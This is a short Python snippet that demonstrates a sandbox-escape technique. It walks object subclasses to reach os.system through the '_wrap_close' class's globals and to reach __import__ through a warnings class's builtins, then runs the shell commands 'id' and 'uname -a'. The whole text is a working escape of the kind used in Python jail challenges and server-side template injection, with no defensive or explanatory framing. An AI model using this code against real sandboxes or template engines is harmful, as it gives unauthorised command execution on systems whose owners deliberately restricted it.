# find a class that gives us os access without importing anything
def find(name):
    for cls in ().__class__.__bases__[0].__subclasses__():
        if cls.__name__ == name:
            return cls
    return None

wrap = find("_wrap_close")
if wrap is not None:
    system = wrap.__init__.__globals__["system"]
    system("id")

for c in ''.__class__.__mro__[1].__subclasses__():
    if "warning" in c.__name__:
        c()._module.__builtins__["__import__"]("os").popen("uname -a").read()
